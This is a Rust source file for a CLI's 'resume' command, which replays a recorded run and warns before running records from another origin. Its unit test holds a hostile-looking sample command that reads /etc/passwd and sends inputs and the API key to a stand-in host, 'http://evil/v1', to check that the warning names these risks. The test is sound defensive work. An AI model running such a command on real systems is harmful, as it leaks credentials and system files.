//! `patterns resume`: types a recorded run again, under its own number.

use std::path::{Path, PathBuf};

use clap::Parser;
use patterns_store::Store;

use crate::app;
use crate::args::{Cli, Command, ResumeArgs, Which};
use crate::error::{Error, ErrorKind};
use crate::record::Typed;
use crate::store::{open_to_read, refused};
use crate::terminal::{Terminal, confirm, is_stdin_terminal};
use crate::trust;

/// So many times a recorded run may itself be a `resume`, which older versions recorded.
const MOST_STEPS: usize = 8;

/// Goes on with a run, in the directory where it was begun.
pub(super) async fn run(args: &ResumeArgs, terminal: Terminal) -> Result<(), Error> {
    let (more, trust): (Vec<_>, Vec<_>) = args.more.iter().partition(|it| *it != "--trust");
    let store = open_to_read(&args.store)?;
    let Recorded { id, typed } = find(&store, args.run)?;
    let words = typed.arguments.iter().chain(more).cloned();
    let mut cli = parse(words)?;
    check_input(id, &typed)?;
    let store_path = absolute(&args.store);
    if trust::is_known(&store.id().map_err(refused)?) != Some(true) {
        let is_trusted = args.trust || !trust.is_empty();
        ask(&args.store, &typed, &mut cli.command, is_trusted, terminal)?;
        trust::remember(&store.id().map_err(refused)?);
    }
    drop(store);
    std::env::set_current_dir(&typed.directory).map_err(|error| {
        let message = format!("the directory of the run is gone: {error}");
        Error::new(ErrorKind::NoInput, message).help(typed.directory.display().to_string())
    })?;
    let Some(common) = cli.command.common() else {
        return Err(Error::new(
            ErrorKind::BadData,
            "the record is not one of a run",
        ));
    };
    // Wherever the record is, it is that one which is gone on with.
    common.store.store = Some(store_path);
    common.store.resumed = Some(id);
    let terminal = app::terminal(&cli.command);
    super::run(cli.command, terminal).await
}

/// A run, and what was typed to begin it.
struct Recorded {
    id: i64,
    typed: Typed,
}

/// Finds what was typed. Older versions recorded a `resume` as a run of its own; what that typed
/// again is what is meant.
fn find(store: &Store, which: Which) -> Result<Recorded, Error> {
    let id = super::show::find(store, which)?.id;
    let mut more = Vec::new();
    let mut next = id;
    for _ in 0..MOST_STEPS {
        let run = super::show::find(store, Which::Number(next))?;
        let mut typed: Typed = serde_json::from_str(&run.job).map_err(|error| {
            let message = format!("the record of run {id} cannot be read");
            Error::new(ErrorKind::BadData, message).caused_by(error)
        })?;
        if typed.arguments.first().map(String::as_str) != Some("resume") {
            typed.arguments.append(&mut more);
            return Ok(Recorded { id, typed });
        }
        let Command::Resume(inner) = parse(typed.arguments.into_iter())?.command else {
            break;
        };
        let Which::Number(number) = inner.run else {
            break;
        };
        more.splice(0..0, inner.more);
        next = number;
    }
    Err(Error::new(
        ErrorKind::BadData,
        format!("run {id} goes on with a run whose record is not there"),
    ))
}

fn parse(words: impl Iterator<Item = String>) -> Result<Cli, Error> {
    let program = std::iter::once("patterns".to_owned());
    Cli::try_parse_from(program.chain(words)).map_err(|error| {
        let text = error.to_string();
        let lines = text.lines().filter(|line| !line.is_empty());
        let message = "the run cannot be done again with these options";
        Error::new(ErrorKind::Usage, message).details(lines.map(str::to_owned))
    })
}

fn check_input(id: i64, typed: &Typed) -> Result<(), Error> {
    let is_piped = typed.arguments.iter().any(|it| it == "-");
    if !is_piped || !is_stdin_terminal() {
        return Ok(());
    }
    let message = format!("run {id} read from standard input");
    Err(Error::new(ErrorKind::NoInput, message).help(format!(
        "pipe it in again, as in `patterns resume {id} < input`"
    )))
}

/// Shows what a record of another origin would do with the user's key and files, and asks.
fn ask(
    store: &Path,
    typed: &Typed,
    command: &mut Command,
    is_trusted: bool,
    terminal: Terminal,
) -> Result<(), Error> {
    let what = format!("{} was not made here", store.display());
    let mut lines = vec![
        format!("it would type: {}", typed.command()),
        format!("in the directory: {}", typed.directory.display()),
    ];
    lines.extend(stakes(command, &typed.directory));
    if is_trusted {
        return Ok(());
    }
    if is_stdin_terminal() && terminal.is_watched() {
        terminal.labelled_note("warning", &what);
        for line in &lines {
            terminal.note(&format!("  {line}"));
        }
        if confirm("go on with it? [y/N] ") {
            return Ok(());
        }
        return Err(Error::new(ErrorKind::Usage, "the run is left as it is"));
    }
    Err(
        Error::new(ErrorKind::Usage, format!("{what}, and nobody can be asked"))
            .details(lines)
            .help("if you trust all of it, add --trust; it is then remembered"),
    )
}

/// Returns what a command sends, reads and writes beyond its directory.
fn stakes(command: &mut Command, directory: &Path) -> Vec<String> {
    let inputs: Vec<PathBuf> = match command {
        Command::MapReduce(args) => args.inputs.clone(),
        Command::Vote(args) => args.context.iter().chain(&args.batch).cloned().collect(),
        Command::Section(args) => args.context.clone(),
        _ => Vec::new(),
    };
    let outside = |path: &&PathBuf| {
        let is_below = !path.is_absolute() || path.starts_with(directory);
        !is_below || path.components().any(|it| it.as_os_str() == "..")
    };
    let mut lines = Vec::new();
    for input in inputs.iter().filter(outside) {
        lines.push(format!(
            "it reads, outside that directory: {}",
            input.display()
        ));
    }
    let Some(common) = command.common() else {
        return lines;
    };
    if let Some(url) = &common.base_url {
        lines.push(format!("it sends your inputs and your API key to: {url}"));
    }
    let mut file = |what: &str, path: &Option<PathBuf>| {
        if let Some(path) = path {
            lines.push(format!("{what}: {}", path.display()));
        }
    };
    file("it takes the API key from", &common.key_file);
    file("it writes", &common.output_file);
    file("it writes", &common.events);
    lines
}

fn absolute(path: &Path) -> PathBuf {
    std::path::absolute(path).unwrap_or_else(|_| path.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_record_would_do_is_named() {
        let words = "map-reduce notes /etc/passwd ../x sub/y --model compatible:m --base-url \
            http://evil/v1 --key-file k -o out --events ev";
        let words = words.split_whitespace().map(str::to_owned);
        let mut cli = parse(words).unwrap();
        assert_eq!(
            stakes(&mut cli.command, Path::new("/home")),
            [
                "it reads, outside that directory: /etc/passwd",
                "it reads, outside that directory: ../x",
                "it sends your inputs and your API key to: http://evil/v1",
                "it takes the API key from: k",
                "it writes: out",
                "it writes: ev",
            ]
        );
    }
}
